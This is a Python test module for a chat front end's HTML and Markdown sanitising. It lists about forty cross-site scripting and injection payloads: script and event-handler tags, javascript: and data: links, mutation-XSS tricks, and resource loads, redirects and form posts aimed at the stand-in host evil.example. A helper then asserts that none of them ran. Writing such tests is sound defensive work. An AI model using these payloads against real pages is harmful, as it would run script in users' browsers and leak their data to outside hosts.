"""Text that must stay text, whoever wrote it: a page of a crawl, a model, a person who votes.

Each would set `pwned`, load something from evil.example, or leave the page, if a page of ours ever took it for markup or for an address.
Collected after the OWASP cheat sheet on filter evasion, DOMPurify's test cases, and what has worked against other chat front ends.
"""

PAYLOADS = [
    "<script>pwned = 1</script>",
    "<img src=x onerror=\"pwned = 1\">",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=pwned=1>",
    "<svg><script href=https://evil.example/x.js></script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSdwd25lZD0xJy8+#x\"></svg>",
    "<body onload=pwned=1>",
    "<iframe srcdoc=\"<script>parent.pwned = 1</script>\"></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/></object><embed src=https://evil.example/>",
    "<style>body { background: url(https://evil.example/css) }</style>",
    "<style>@import 'https://evil.example/css';</style>",
    "<div style=\"background: url(https://evil.example/style)\">x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/p>",
    "<meta http-equiv=refresh content=\"0; url=https://evil.example/\">",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button autofocus>Send</button></form>",
    "<input autofocus onfocus=pwned=1>",
    "<details open ontoggle=pwned=1>x</details>",
    "<video><source onerror=pwned=1></video><audio src=https://evil.example/a.mp3 autoplay>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned=1&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=pwned=1>\">",
    "<template><script>pwned = 1</script></template>",
    "<a href=\"javascript:pwned=1\">here</a>",
    "[here](javascript:pwned=1)",
    "[here](java&#115;cript:pwned=1)",
    "[here](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)",
    "![pixel](https://evil.example/pixel.png)",
    "![pixel][1]\n\n[1]: https://evil.example/pixel.png",
    "```\"><script>pwned=1</script>\nx\n```",
    "`<img src=x onerror=pwned=1>`",
    "{{constructor.constructor('pwned=1')()}} ${pwned=1} #{7*7}",
    "\"><script>pwned=1</script><\"",
    "'-pwned=1-'",
    "</textarea></title></style></script><script>pwned=1</script>",
    "\u2028<script>pwned=1</script>\u2029",
    "\u202emoc.elpmaxe.live\u202c \x1b[31mred\x1b[0m \x00 null",
    "=HYPERLINK(\"https://evil.example/\", \"click\")",
    "data: x\n\nevent: problem\ndata: {\"message\": \"<script>pwned=1</script>\"}\n\n",
]  # fmt: skip

ALL_OF_THEM = "\n\n".join(PAYLOADS)


def check_harmless(page) -> None:
    """Nothing ran, nothing else was loaded (the fixture watches that), the page is still ours, and no element of theirs exists."""
    assert page.evaluate("() => window.pwned") is None
    assert "evil.example" not in page.url.partition("?")[0]
    tags = (
        "script:not([src^='/static/']), iframe, object, embed, base, meta[http-equiv], style, template, [action*='evil'], [style*='evil']"
    )
    assert page.locator(tags).count() == 0
    assert page.locator("main img:not([src^='data:'])").count() == 0
    handlers = "() => [...document.querySelectorAll('*')].some(e => [...e.attributes].some(a => a.name.startsWith('on')))"
    assert not page.evaluate(handlers)
    links = page.eval_on_selector_all("a[href]", "all => all.map(a => a.protocol)")
    assert set(links) <= {"http:", "https:"}
